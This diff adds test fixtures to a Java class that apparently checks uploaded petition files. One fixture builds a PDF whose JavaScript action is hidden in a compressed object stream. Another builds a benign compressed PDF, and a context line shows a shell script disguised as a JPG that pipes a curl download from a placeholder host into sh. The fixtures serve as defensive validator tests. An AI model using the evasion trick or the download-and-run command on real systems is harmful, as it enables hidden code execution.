@@ -52,6 +52,41 @@ final class PetitionFiles {
                 .getBytes(StandardCharsets.US_ASCII);
     }
 
+    /** A PDF 1.5 whose JavaScript action sits in a zlib-compressed object stream (invisible in the raw bytes). */
+    static byte[] pdfWithCompressedJavaScript() {
+        byte[] objects = "2 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>".getBytes(StandardCharsets.ISO_8859_1);
+        java.util.zip.Deflater deflater = new java.util.zip.Deflater();
+        deflater.setInput(objects);
+        deflater.finish();
+        byte[] buffer = new byte[1024];
+        int n = deflater.deflate(buffer);
+        deflater.end();
+        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+        out.writeBytes(("%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + n
+                + " >>\nstream\n").getBytes(StandardCharsets.ISO_8859_1));
+        out.write(buffer, 0, n);
+        out.writeBytes("\nendstream\nendobj\n3 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n%%EOF\n"
+                .getBytes(StandardCharsets.ISO_8859_1));
+        return out.toByteArray();
+    }
+
+    /** A plain PDF with a compressed content stream (text drawing only): must be accepted. */
+    static byte[] pdfWithCompressedText() {
+        byte[] content = "BT /F1 12 Tf 72 720 Td (Hello) Tj ET".getBytes(StandardCharsets.ISO_8859_1);
+        java.util.zip.Deflater deflater = new java.util.zip.Deflater();
+        deflater.setInput(content);
+        deflater.finish();
+        byte[] buffer = new byte[1024];
+        int n = deflater.deflate(buffer);
+        deflater.end();
+        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+        out.writeBytes(("%PDF-1.4\n1 0 obj\n<< /Filter /FlateDecode /Length " + n + " >>\nstream\n")
+                .getBytes(StandardCharsets.ISO_8859_1));
+        out.write(buffer, 0, n);
+        out.writeBytes("\nendstream\nendobj\n%%EOF\n".getBytes(StandardCharsets.ISO_8859_1));
+        return out.toByteArray();
+    }
+
     static byte[] scriptRenamedJpg() {
         return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
     }
